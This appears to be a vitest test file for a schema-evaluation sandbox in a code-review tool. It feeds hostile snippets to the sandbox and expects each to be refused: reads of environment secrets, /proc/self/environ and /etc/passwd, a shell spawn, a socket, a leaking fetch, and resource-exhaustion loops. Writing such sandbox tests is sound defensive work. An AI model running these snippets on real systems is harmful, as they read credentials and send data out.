// Hostile schema modules: each must fail closed (no secret, file, process or socket reaches it), end with an
// `evaluation-failed` notice naming why, and let the review complete.
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { networkIsolationAvailable, privilegesDropped } from '../../src/drizzle/evaluate-schema.js';
import rule from '../../src/rules/drizzle-schema-stale.js';
import { drizzleInput, loadFixture } from './drizzle-input.js';

const SCHEMA = 'src/db/schema.ts';
const f = loadFixture('clean');
const thisFile = fileURLToPath(import.meta.url);

async function evaluateHostile(snippet: string, sandbox = { timeoutMs: 4000 }) {
  const head = { ...f.base, [SCHEMA]: `${f.base[SCHEMA]}\n${snippet}\n` };
  const input = await drizzleInput(f.base, head, { sandbox });
  const reports = await rule.check(input);
  return { evaluation: input.drizzle.folders[0].evaluation, reports };
}

const cases: Array<{ name: string; snippet: string; reason: string; message: RegExp; timeoutMs?: number }> = [
  {
    name: 'reads process.env',
    snippet: "export const url = process.env.DATABASE_URL ?? 'file:local.db';",
    reason: 'denied',
    message: /process\.env\.DATABASE_URL is not available/,
  },
  {
    name: 'lists process.env',
    snippet: 'export const keys = Object.keys(process.env).join(",");',
    reason: 'denied',
    message: /process\.env is not available/,
  },
  {
    name: 'reads /proc/self/environ',
    snippet: "export const leak = process.getBuiltinModule('fs').readFileSync('/proc/self/environ', 'utf8');",
    reason: 'denied',
    message: /refused an operation \(FileSystemRead: \/proc\/self\/environ\)/,
  },
  {
    name: 'reads a file outside the temp folder (Safari\'s own test file)',
    snippet: `export const leak = process.getBuiltinModule('fs').readFileSync(${JSON.stringify(thisFile)}, 'utf8');`,
    reason: 'denied',
    message: /FileSystemRead/,
  },
  {
    name: 'writes a file',
    snippet: "process.getBuiltinModule('fs').writeFileSync('/tmp/safari-pwned', 'x');",
    reason: 'denied',
    message: /FileSystemWrite/,
  },
  {
    name: 'imports node:fs (refused before anything runs)',
    snippet: "import { readFileSync } from 'node:fs';\nexport const leak = readFileSync('/etc/passwd', 'utf8');",
    reason: 'import',
    message: /imports node:fs, which the schema sandbox does not provide/,
  },
  {
    name: 'spawns a process',
    snippet: "export const who = String(process.getBuiltinModule('child_process').execFileSync('/bin/sh', ['-c', 'id'], { env: {} }));",
    reason: 'denied',
    message: /ChildProcess/,
  },
  {
    name: 'starts a worker',
    snippet: "const { Worker } = process.getBuiltinModule('worker_threads');\nnew Worker('0', { eval: true });",
    reason: 'denied',
    message: /WorkerThreads/,
  },
  {
    name: 'opens a socket',
    snippet: "process.getBuiltinModule('net').connect(443, '1.1.1.1');",
    reason: 'denied',
    message: /opening a network socket is not available/,
  },
  {
    name: 'calls fetch',
    snippet: "await fetch('https://example.com/?leak=1');",
    reason: 'denied',
    message: /fetch is not available/,
  },
  {
    name: 'loops forever',
    snippet: 'while (true) {}',
    reason: 'timeout',
    message: /did not finish within 2\.0 s and was stopped/,
    timeoutMs: 2000,
  },
  {
    name: 'allocates without bound',
    snippet: 'const hog: number[][] = [];\nfor (;;) hog.push(new Array(1e6).fill(1));',
    reason: 'memory',
    message: /ran out of its 256 MB memory limit/,
  },
  {
    name: 'exits before answering',
    snippet: 'process.exit(0);',
    reason: 'crashed',
    message: /exited with code 0 .*without an answer/,
  },
];

describe('schema.ts sandbox', () => {
  for (const c of cases) {
    it(`fails closed with a notice when the schema ${c.name}`, async () => {
      const { evaluation, reports } = await evaluateHostile(c.snippet, { timeoutMs: c.timeoutMs ?? 4000 });
      expect(evaluation).toMatchObject({ status: 'failed', reason: c.reason });
      expect(evaluation.status === 'failed' && evaluation.message).toMatch(c.message);
      expect(reports.map((r) => [r.messageId, r.severity])).toContainEqual(['evaluation-failed', 'notice']);
    });
  }

  it('runs without network on this host (unshare works as root here)', () => {
    expect(networkIsolationAvailable()).toBe(true);
  });

  it.runIf(process.getuid?.() === 0)('runs the schema as nobody when Safari runs as root', async () => {
    expect(privilegesDropped()).toBe(true);
    const { evaluation } = await evaluateHostile("if (process.getuid() !== 65534) throw new Error('running as uid ' + process.getuid());");
    expect(evaluation).toMatchObject({ status: 'fresh' });
  });

  it('evaluates an ordinary schema in the same sandbox', async () => {
    const { evaluation, reports } = await evaluateHostile("export const note = 'harmless';");
    expect(evaluation).toMatchObject({ status: 'fresh', networkIsolated: true });
    expect(reports).toEqual([]);
  });
});
